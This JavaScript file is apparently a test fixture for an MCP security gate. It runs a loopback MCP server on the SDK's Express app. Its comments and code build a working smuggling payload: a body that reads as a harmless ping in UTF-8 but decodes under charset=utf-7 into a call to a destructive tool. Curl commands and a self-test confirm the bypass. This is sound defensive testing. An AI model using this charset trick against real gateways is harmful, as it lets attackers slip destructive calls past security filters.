#!/usr/bin/env node
// A real MCP origin that trusts its HTTP stack: the MCP TypeScript SDK's createMcpExpressApp()
// (Express 5 + express.json(), i.e. body-parser) with a STATELESS StreamableHTTPServerTransport
// (`sessionIdGenerator: undefined`, a new server and transport per request, as in the SDK's
// stateless example), mounted on /mcp and on /messages (a FORWARD_PATHS path in the tests).
// The hygiene end-to-end tests (SPEC §4a) put the gate in front of it: it is fooled by every
// request whose bytes the gate reads one way and Express another.
//
// Why it can be fooled — body-parser decodes a JSON body by the request's `charset` parameter,
// accepting any charset that starts with "utf-" which iconv-lite knows, UTF-7 included
// (body-parser 2.x, lib/types/json.js `isValidCharset`, lib/read.js `iconv.decode`). In UTF-7,
// `+<modified base64 of UTF-16BE>-` is a run of arbitrary characters, while the same bytes read
// as UTF-8 are just letters inside a JSON string. So this body (bytes, all ASCII):
//
//   {"jsonrpc":"2.0","id":1,"method":"ping","params":{"_meta":{"note":"+ACIAfQB9ACwAIgBtAGUAdABoAG8AZAAiADoAIgB0AG8AbwBsAHMALwBjAGEAbABsACIALAAiAHAAYQByAGEAbQBzACIAOgB7ACIAbgBhAG0AZQAiADoAIgBkAGUAbABlAHQAZQBfAGUAdgBlAHIAeQB0AGgAaQBuAGcAIgAsACIAYQByAGcAdQBtAGUAbgB0AHMAIgA6AHsAIgB6ACIAOgAi-"}}}
//
// is, read as UTF-8 (what a gate sees), a harmless `ping` with one odd string in `_meta`; decoded
// as UTF-7 (what Express hands the SDK with `Content-Type: application/json; charset=utf-7`) it is
//
//   {"jsonrpc":"2.0","id":1,"method":"ping","params":{"_meta":{"note":""}},"method":"tools/call",
//    "params":{"name":"delete_everything","arguments":{"z":""}}}
//
// (`+ACI-` is `"`: the string closes itself), and JSON.parse keeps the LAST "method"/"params":
// a tools/call of delete_everything. Sent directly to this origin (measured 2026-12-03):
//
//   $ PORT=8790 node tests/origin/sdk-express.mjs &
//   $ BODY=$(node -e "import('./tests/origin/sdk-express.mjs').then(m => process.stdout.write(m.smuggledUtf7Body()))")
//   $ curl -s http://127.0.0.1:8790/mcp -H 'Content-Type: application/json; charset=utf-7' \
//       -H 'Accept: application/json, text/event-stream' --data-binary "$BODY"
//   {"result":{"content":[{"type":"text","text":"everything deleted"}]},"jsonrpc":"2.0","id":1}
//   $ curl -s http://127.0.0.1:8790/__executed
//   ["delete_everything"]
//
// With `charset=utf-8` (or none) the same bytes are the ping (`{"result":{},...}`) and nothing
// is executed; `charset=latin1` gets Express's own 415 (body-parser wants "utf-*"). The
// standalone check is `node tests/origin/sdk-express.mjs --self-test`. `smuggledUtf7Body()` below
// builds the body; the e2e suite imports it.
//
// Debug endpoints (loopback only; they reveal every header received):
//   GET  /__requests  every request received (oldest first, debug endpoints excluded):
//                     method, path, url, headers, rawHeaders, body (utf8), bodyBase64, bodyHex
//   GET  /__executed  names of the tools executed, oldest first
//   POST /__reset     forget both
// Any other path answers 200 {"origin":"catch-all",...}, so that a path the gate should not
// forward shows up as answered (and recorded) rather than as an ordinary 404.
//
// Configuration: PORT (default 0 = any free port), HOST (default 127.0.0.1). Prints
// `sdk-express origin listening on http://127.0.0.1:PORT` once ready.

import http from 'node:http';
import { fileURLToPath } from 'node:url';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StreamableHTTPServerTransport } from '@modelcontextprotocol/sdk/server/streamableHttp.js';
import { createMcpExpressApp } from '@modelcontextprotocol/sdk/server/express.js';
import { z } from 'zod';

/** The smuggled part: closes the visible string and adds a later "method" and "params". */
export const SMUGGLED_JSON =
  '"}},"method":"tools/call","params":{"name":"delete_everything","arguments":{"z":"';

/** `text` as one UTF-7 base64 run (every character encoded, none direct). */
export function utf7Run(text) {
  return `+${Buffer.from(text, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;
}

/**
 * A body that is a harmless JSON-RPC `ping` read as UTF-8 and a tools/call of
 * delete_everything decoded as UTF-7.
 */
export function smuggledUtf7Body(id = 1) {
  return `{"jsonrpc":"2.0","id":${JSON.stringify(id)},"method":"ping","params":{"_meta":{"note":"${utf7Run(SMUGGLED_JSON)}"}}}`;
}

const MAX_RECORDED = 2000;

/** @type {Array<{entry: object, chunks: Buffer[]}>} */
let recorded = [];
/** @type {string[]} */
let executed = [];

function buildServer() {
  const server = new McpServer({ name: 'mcp-gate-sdk-express-origin', version: '1.0.0' });
  const run = (name, text) => async () => {
    executed.push(name);
    return { content: [{ type: 'text', text }] };
  };
  server.registerTool('ping_tool', { description: 'Answer pong.', inputSchema: {} }, run('ping_tool', 'pong'));
  server.registerTool(
    'calendar_get_events',
    { description: 'List calendar events for a day.', inputSchema: { date: z.string().optional() } },
    async ({ date }) => {
      executed.push('calendar_get_events');
      return { content: [{ type: 'text', text: JSON.stringify([{ title: 'Standup', start: `${date || '2026-01-15'}T09:00:00Z` }]) }] };
    },
  );
  server.registerTool(
    'delete_everything',
    { description: 'Delete all data. Dangerous: the gate must never let an unscoped token reach it.', inputSchema: {} },
    run('delete_everything', 'everything deleted'),
  );
  return server;
}

const app = createMcpExpressApp(); // host 127.0.0.1: the SDK's Host-header check is on

app.get('/__requests', (_req, res) => {
  res.json(
    recorded.map(({ entry, chunks }) => {
      const body = Buffer.concat(chunks);
      return { ...entry, body: body.toString('utf8'), bodyBase64: body.toString('base64'), bodyHex: body.toString('hex') };
    }),
  );
});
app.get('/__executed', (_req, res) => res.json(executed));
app.post('/__reset', (_req, res) => {
  recorded = [];
  executed = [];
  res.json({ ok: true });
});

async function mcpPost(req, res) {
  // Stateless: a new server and transport for every request.
  const server = buildServer();
  const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined, enableJsonResponse: true });
  res.on('close', () => {
    transport.close().catch(() => {});
    server.close().catch(() => {});
  });
  try {
    await server.connect(transport);
    await transport.handleRequest(req, res, req.body);
  } catch (err) {
    if (!res.headersSent) {
      res.status(500).json({ jsonrpc: '2.0', error: { code: -32603, message: `Internal error: ${err?.message}` }, id: null });
    }
  }
}
const notInStatelessMode = (_req, res) =>
  res.status(405).set('Allow', 'POST').json({ jsonrpc: '2.0', error: { code: -32000, message: 'Method not allowed.' }, id: null });

for (const path of ['/mcp', '/messages']) {
  app.post(path, mcpPost);
  app.get(path, notInStatelessMode);
  app.delete(path, notInStatelessMode);
}
app.use((req, res) => {
  res.json({ origin: 'catch-all', method: req.method, path: req.path });
});
// Errors of express.json() (415 unsupported charset, 400 bad JSON, 413) as JSON.
// eslint-disable-next-line no-unused-vars
app.use((err, _req, res, _next) => {
  res.status(err.status || 500).json({ origin: 'express-error', status: err.status, type: err.type, message: err.message });
});

const DEBUG_PATHS = new Set(['/__requests', '/__executed', '/__reset']);

/** Record every request (before Express reads it) and tap the body bytes as they arrive. */
function recordingHandler(req, res) {
  const path = req.url.split('?')[0];
  if (!DEBUG_PATHS.has(path)) {
    const item = {
      entry: { seq: recorded.length + 1, time: Date.now(), method: req.method, path, url: req.url, headers: req.headers, rawHeaders: req.rawHeaders },
      chunks: [],
    };
    recorded.push(item);
    if (recorded.length > MAX_RECORDED) recorded = recorded.slice(-MAX_RECORDED);
    // IncomingMessage receives its body through push(): see the bytes whoever reads them.
    const push = req.push;
    req.push = function tap(chunk, encoding) {
      if (chunk) item.chunks.push(Buffer.from(chunk));
      return push.call(this, chunk, encoding);
    };
  }
  app(req, res);
}

async function selfTest(base) {
  const send = (charset) =>
    fetch(`${base}/mcp`, {
      method: 'POST',
      headers: { 'Content-Type': `application/json${charset ? `; charset=${charset}` : ''}`, Accept: 'application/json, text/event-stream' },
      body: smuggledUtf7Body(),
    }).then(async (r) => `${r.status} ${await r.text()}`);
  const executedNow = () => fetch(`${base}/__executed`).then((r) => r.json());
  const asUtf8 = await send('utf-8');
  const afterUtf8 = await executedNow();
  const asUtf7 = await send('utf-7');
  const afterUtf7 = await executedNow();
  console.log(`body: ${smuggledUtf7Body()}`);
  console.log(`charset=utf-8 → ${asUtf8}\n  executed: ${JSON.stringify(afterUtf8)}`);
  console.log(`charset=utf-7 → ${asUtf7}\n  executed: ${JSON.stringify(afterUtf7)}`);
  const fooled = afterUtf8.length === 0 && afterUtf7.includes('delete_everything');
  console.log(fooled ? 'self-test: the UTF-7 body executes delete_everything; the UTF-8 reading is a ping' : 'self-test FAILED');
  return fooled;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const HOST = process.env.HOST || '127.0.0.1';
  if (!['127.0.0.1', '::1', 'localhost'].includes(HOST)) {
    console.error(`sdk-express origin: refusing HOST=${HOST}; it listens on loopback only`);
    process.exit(2);
  }
  const httpServer = http.createServer(recordingHandler);
  httpServer.keepAliveTimeout = 65_000;
  httpServer.requestTimeout = 0;
  httpServer.listen(Number(process.env.PORT || 0), HOST, async () => {
    const { port } = httpServer.address();
    const base = `http://${HOST}:${port}`;
    if (process.argv.includes('--self-test')) {
      const ok = await selfTest(base);
      httpServer.close();
      httpServer.closeAllConnections?.();
      process.exit(ok ? 0 : 1);
    }
    console.log(`sdk-express origin listening on ${base}`);
  });
  const shutdown = () => {
    httpServer.close(() => process.exit(0));
    httpServer.closeAllConnections?.();
    setTimeout(() => process.exit(0), 1000).unref();
  };
  process.on('SIGTERM', shutdown);
  process.on('SIGINT', shutdown);
}
